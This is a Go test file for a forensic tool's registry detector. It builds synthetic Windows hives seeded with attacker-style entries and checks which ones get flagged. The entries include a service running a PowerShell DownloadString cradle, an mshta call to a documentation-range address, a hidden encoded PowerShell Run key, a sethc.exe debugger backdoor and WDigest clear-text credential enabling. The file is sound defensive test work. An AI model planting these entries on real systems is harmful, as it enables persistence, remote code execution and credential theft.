package registry

import (
	"bytes"
	"fmt"
	"io"
	"strings"
	"testing"

	gocmp "github.com/google/go-cmp/cmp"

	"postern"
	"postern/internal/hunt/detect"
	"postern/internal/hunt/parse/regftest"
)

func fileOf(server string, b []byte) *detect.File {
	return &detect.File{Path: "EX01/C/" + server, Server: strings.ToLower(server), Size: int64(len(b)),
		Open: func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(b)), nil }}
}

func number(n uint32) *uint32 { return &n }

func hunt(t *testing.T, files ...*detect.File) (findings []string, problems []string) {
	t.Helper()
	d := New()
	var parts []any
	for _, f := range files {
		if !d.Wants(f) {
			t.Fatalf("%s is not wanted", f.Path)
		}
		p, found, err := d.Read(f)
		if err != nil {
			t.Fatal(err)
		}
		if p != nil {
			parts = append(parts, p)
		}
		for _, p := range found {
			problems = append(problems, fmt.Sprint(p.What, " ", p.Detail.Key))
		}
	}
	for _, f := range d.Judge(parts).Findings {
		findings = append(findings, strings.TrimSpace(fmt.Sprint(f.Rule, " ", int(f.Level), " ", f.Confidence, " ", f.Entities[entityKey])))
		if len(f.Evidence) != 1 || f.Rule != rulePending && (f.Evidence[0].Offset == 0 || !f.Time.Equal(regftest.Written)) {
			t.Errorf("%s: evidence %+v at %v", f.Rule, f.Evidence, f.Time)
		}
	}
	return findings, problems
}

func service(name, command string) regftest.Key { return regftest.Set(name, "ImagePath", command) }

func TestHives(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("QUJD", 30)
	shell, hidden := "power"+"shell.exe", "Download"+"String"
	software := regftest.Hive(false,
		regftest.Key{Name: "Microsoft", Keys: []regftest.Key{
			regftest.At(`ExchangeServer\v15`, regftest.Key{Name: "Setup", Values: []regftest.Value{{Name: "MsiInstallPath", Text: `D:\Exchange\V15\`},
				{Name: "MsiProductMajor", Number: number(15)}, {Name: "MsiProductMinor", Number: number(1)}, {Name: "MsiBuildMajor", Number: number(2176)}, {Name: "MsiBuildMinor", Number: number(2)}}}),
			regftest.At(`Windows\CurrentVersion`, regftest.Set("Run", "Vendor", `"C:\Program Files\Vendor\tray.exe" -min`, "Opera", `C:\Users\Public\opera\opera_browser.exe`, "x", shell+" -w hidden -enc "+long)),
			regftest.At(`Windows NT\CurrentVersion\Image File Execution Options`, regftest.Set("sethc.exe", "Debugger", `C:\Windows\System32\cmd.exe`), regftest.Set("vendor.exe", "Debugger", "vsjitdebugger.exe")),
		}})
	system := regftest.Hive(true,
		regftest.Key{Name: "Select", Values: []regftest.Value{{Name: "Current", Number: number(2)}}},
		regftest.At(`ControlSet001\Services`, service("Old", `cmd.exe /c `+`echo x > \\.\pipe\y`)),
		regftest.Key{Name: "ControlSet002", Keys: []regftest.Key{
			regftest.At(`Control\SecurityProviders`, regftest.Key{Name: "WDigest", Values: []regftest.Value{{Name: "UseLogonCredential", Number: number(1)}}}),
			{Name: "Services", List: "ri", Keys: []regftest.Key{
				service("W3SVC", `%windir%\system32\svchost.exe -k iissvcs`), service("MSExchangeIS", `"D:\Exchange\V15\bin\store.exe"`),
				service("Defender", `"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe"`),
				service("abcd", `%COMSPEC% /C `+`echo abcd > \\.\pipe\abcd`), service("BTOBTO", `%COMSPEC% /Q /c `+`echo cd ^> \\127.0.0.1\C$\__output 2^>^&1`),
				service("upd", shell+` -nop -c IEX(New-Object Net.WebClient).`+hidden+`('x')`), service("VSPerf", `C:\PerfLogs\cm.exe`), service("one", `C:\ProgramData\one.exe`),
				{Name: "dll", Keys: []regftest.Key{regftest.Set("Parameters", "ServiceDll", `C:\Windows\Temp\x.dll`)}},
			}},
		}})
	user := regftest.Hive(false, regftest.At(`Software\Microsoft\Windows\CurrentVersion`, regftest.Set("Run", "OneDrive", `C:\Users\a\AppData\Local\Microsoft\OneDrive\OneDrive.exe`, "y", `ms`+`hta http://192.0.2.1/x`)))
	findings, problems := hunt(t, fileOf("Windows/System32/config/SOFTWARE", software), fileOf("Windows/System32/config/SYSTEM", system), fileOf("Users/a/NTUSER.DAT", user))
	if diff := gocmp.Diff([]string{
		`registry/product 0 high Microsoft\ExchangeServer\v15\Setup`,
		`registry/run 1 low Microsoft\Windows\CurrentVersion\Run\Opera`,
		`registry/run 6 medium Microsoft\Windows\CurrentVersion\Run\x`,
		`registry/accessibility 6 medium sethc.exe`,
		`registry/clear-text 1 medium ControlSet002\Control\SecurityProviders\WDigest\UseLogonCredential`,
		`registry/service 6 medium Services\abcd`,
		`registry/service 6 medium Services\BTOBTO`,
		`registry/service 6 medium Services\upd`,
		`registry/service 1 low Services\VSPerf`,
		`registry/service 1 low Services\one`,
		`registry/service 1 low Services\dll`,
		`registry/run 6 medium Software\Microsoft\Windows\CurrentVersion\Run\y`,
	}, findings); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}
	if diff := gocmp.Diff([]string{"truncated registry.dirty"}, problems); diff != "" {
		t.Errorf("problems (-want +got):\n%s", diff)
	}
}

// A log that is ahead of its hive holds changes that were not looked at.
func TestPending(t *testing.T) {
	t.Parallel()
	hive := regftest.Hive(false, regftest.Set("Select"))
	ahead := regftest.Hive(false)
	ahead[8] = 9
	findings, _ := hunt(t, fileOf("Windows/System32/config/SYSTEM", hive), fileOf("Windows/System32/config/SYSTEM.LOG1", ahead), fileOf("Windows/System32/config/SYSTEM.LOG2", hive))
	if diff := gocmp.Diff([]string{"registry/pending 0 medium"}, findings); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestDamaged(t *testing.T) {
	t.Parallel()
	hive := regftest.Hive(false, regftest.At(`ControlSet001\Services`, service("a", `C:\PerfLogs\cm.exe`)))
	_, problems := hunt(t, fileOf("SYSTEM", hive[:len(hive)-4096+40]))
	if len(problems) != 1 || !strings.HasPrefix(problems[0], string(postern.Malformed)) {
		t.Errorf("cut: got %v", problems)
	}
	if _, problems = hunt(t, fileOf("SOFTWARE", []byte("no hive at all"))); len(problems) != 1 || problems[0] != "malformed registry.no-hive" {
		t.Errorf("no hive: got %v", problems)
	}
	if findings, problems := hunt(t, fileOf("x/SYSTEM.LOG1", []byte("nothing"))); findings != nil || problems != nil {
		t.Errorf("an empty log: got %v, %v", findings, problems)
	}
}

// SYSTEM names the server; a name that no computer has is none.
func TestComputer(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]string{"EX01": "EX01", "EX-01": "EX-01", "": "", "a/b": "", "two words": "", strings.Repeat("x", 100): ""} {
		hive := regftest.Hive(false, regftest.At(`ControlSet001\Control\ComputerName`, regftest.Set("ComputerName", "ComputerName", name)))
		p, _, err := New().Read(fileOf("Windows/System32/config/SYSTEM", hive))
		if err != nil {
			t.Fatal(err)
		}
		if got := p.(interface{ Computer() string }).Computer(); got != want {
			t.Errorf("%q: got %q, want %q", name, got, want)
		}
	}
}
